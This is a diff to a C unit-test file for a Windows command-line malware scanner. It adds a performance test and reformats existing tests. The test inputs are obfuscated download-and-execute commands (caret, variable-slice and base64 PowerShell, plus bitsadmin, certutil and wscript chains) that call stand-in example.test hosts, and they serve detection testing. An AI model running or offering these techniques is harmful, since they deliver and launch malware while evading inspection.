@@ -48,8 +48,9 @@ static void expect(const eg_report *r, const char *rule, const char *in_evidence
 static void carets(void **st)
 {
     (void)st;
-    eg_report *r = scan_cmd("c^m^d /c p^o^w^e^r^s^h^e^l^l -c \"iwr http://a.example.test/x -OutFile "
-                            "$env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"");
+    eg_report *r =
+        scan_cmd("c^m^d /c p^o^w^e^r^s^h^e^l^l -c \"iwr http://a.example.test/x -OutFile "
+                 "$env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"");
     expect(r, "CMD.CARET_OBFUSCATION", "powershell -c");
     expect(r, "CMD.DOWNLOAD_EXECUTE", NULL);
     expect(r, "CMD.DROPPED_FILE", "$env:TEMP\\x.exe");
@@ -63,7 +64,8 @@ static void variable_slices(void **st)
     /* "powershell" spelled with slices of a variable set in the same line; the command decodes
      * to IEX(iwr http://x.example.test/p) */
     eg_report *r = scan_cmd(
-        "set x=abcdefghijklmnopqrstuvwxyz&& call %x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%%x:~18,1%"
+        "set x=abcdefghijklmnopqrstuvwxyz&& call "
+        "%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%%x:~18,1%"
         "%x:~7,1%%x:~4,1%%x:~11,1%%x:~11,1% -e "
         "SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcAApAA==");
     expect(r, "CMD.ENV_OBFUSCATION", "call powershell -e");
@@ -86,8 +88,9 @@ static void comspec_slice_and_mshta(void **st)
 static void substitution_and_hidden(void **st)
 {
     (void)st;
-    eg_report *r = scan_cmd("setlocal enabledelayedexpansion&& set a=pXwershell&& !a:X=o! -w 1 -ep bypass -file "
-                            "%APPDATA%\\u.ps1");
+    eg_report *r = scan_cmd(
+        "setlocal enabledelayedexpansion&& set a=pXwershell&& !a:X=o! -w 1 -ep bypass -file "
+        "%APPDATA%\\u.ps1");
     expect(r, "CMD.ENV_OBFUSCATION", "powershell -w 1");
     expect(r, "CMD.HIDDEN_WINDOW", NULL);
     expect(r, "CMD.EXECUTION_POLICY_BYPASS", NULL);
@@ -117,11 +120,13 @@ static void dll_loaders(void **st)
 static void lolbin_downloads(void **st)
 {
     (void)st;
-    eg_report *r = scan_cmd("bitsadmin /transfer job /download http://h.example.test/a.zip C:\\Users\\Public\\a.zip");
+    eg_report *r = scan_cmd(
+        "bitsadmin /transfer job /download http://h.example.test/a.zip C:\\Users\\Public\\a.zip");
     expect(r, "CMD.DOWNLOAD", "bitsadmin");
     assert_null(evidence_of(r, "CMD.DOWNLOAD_EXECUTE"));
     eg_report_free(r);
-    r = scan_cmd("certutil -urlcache -split -f http://h.example.test/b.txt b.txt && certutil -decode b.txt b.exe && b.exe");
+    r = scan_cmd("certutil -urlcache -split -f http://h.example.test/b.txt b.txt && certutil "
+                 "-decode b.txt b.exe && b.exe");
     expect(r, "CMD.DOWNLOAD", "certutil");
     expect(r, "CMD.CERTUTIL_DECODE", NULL);
     eg_report_free(r);
@@ -145,7 +150,8 @@ static void powershell_spelling(void **st)
 static void findstr_self(void **st)
 {
     (void)st;
-    eg_report *r = scan_cmd("findstr \"gl.*\" \"%~f0\" > \"%TEMP%\\a.vbs\" & wscript \"%TEMP%\\a.vbs\"");
+    eg_report *r =
+        scan_cmd("findstr \"gl.*\" \"%~f0\" > \"%TEMP%\\a.vbs\" & wscript \"%TEMP%\\a.vbs\"");
     expect(r, "CMD.FINDSTR_EXTRACT", NULL);
     expect(r, "CMD.SCRIPT_HOST", "wscript \"%TEMP%\\a.vbs\"");
     eg_report_free(r);
@@ -160,8 +166,9 @@ static void long_batch(void **st)
     n += (size_t)snprintf(b, cap, "@echo off\r\n");
     while (n < 400u * 1024u)
         n += (size_t)snprintf(b + n, cap - n, "rem filler line %zu of the report generator\r\n", n);
-    n += (size_t)snprintf(b + n, cap - n, "powershell -c \"iwr http://late.example.test/a.exe -OutFile a.exe; "
-                                          "Start-Process a.exe\"\r\n");
+    n += (size_t)snprintf(b + n, cap - n,
+                          "powershell -c \"iwr http://late.example.test/a.exe -OutFile a.exe; "
+                          "Start-Process a.exe\"\r\n");
     eg_report *r = eg_test_scan(b, n, NULL);
     expect(r, "CMD.DOWNLOAD_EXECUTE", "late.example.test");
     eg_report_free(r);
@@ -175,7 +182,8 @@ static void benign(void **st)
     eg_report *e = scan_cmd("powershell -File build.ps1 -e ReleaseConfiguration");
     assert_null(evidence_of(e, "CMD.POWERSHELL_ENCODED"));
     eg_report_free(e);
-    eg_report *r = scan_cmd("copy report.xlsx \\\\nas\\share\\\r\necho done\r\nfindstr /i total report.csv");
+    eg_report *r =
+        scan_cmd("copy report.xlsx \\\\nas\\share\\\r\necho done\r\nfindstr /i total report.csv");
     for (size_t i = 0; i < eg_report_finding_count(r); i++) {
         const char *id = eg_rule_get(eg_report_finding(r, i)->rule)->id;
         if (!strncmp(id, "CMD.", 4)) {
@@ -186,14 +194,38 @@ static void benign(void **st)
     eg_report_free(r);
 }
 
+/* A batch file that is one long token of "\temp\" (then a real dropped file): each token is
+ * judged once per folder name (a token was once walked again for each of its 40 000 matches,
+ * about 15 s for 240 KB). */
+static void one_long_token(void **st)
+{
+    (void)st;
+    size_t reps = 40000, n = 0, cap = reps * 6 + 256;
+    char *b = malloc(cap);
+    n += (size_t)snprintf(b, cap, "@echo off\r\n");
+    for (size_t i = 0; i < reps; i++)
+        n += (size_t)snprintf(b + n, cap - n, "\\temp\\");
+    n += (size_t)snprintf(b + n, cap - n, "\r\ncopy a.txt %%TEMP%%\\drop.exe\r\n");
+    eg_report *r = eg_test_scan(b, n, NULL);
+    expect(r, "CMD.DROPPED_FILE", "%TEMP%\\drop.exe");
+    eg_report_free(r);
+    free(b);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(carets),          cmocka_unit_test(variable_slices),
-        cmocka_unit_test(comspec_slice_and_mshta), cmocka_unit_test(substitution_and_hidden),
-        cmocka_unit_test(dll_loaders),     cmocka_unit_test(lolbin_downloads),
-        cmocka_unit_test(powershell_spelling), cmocka_unit_test(findstr_self),
-        cmocka_unit_test(long_batch),      cmocka_unit_test(benign),
+        cmocka_unit_test(carets),
+        cmocka_unit_test(variable_slices),
+        cmocka_unit_test(comspec_slice_and_mshta),
+        cmocka_unit_test(substitution_and_hidden),
+        cmocka_unit_test(dll_loaders),
+        cmocka_unit_test(lolbin_downloads),
+        cmocka_unit_test(powershell_spelling),
+        cmocka_unit_test(findstr_self),
+        cmocka_unit_test(long_batch),
+        cmocka_unit_test(benign),
+        cmocka_unit_test(one_long_token),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
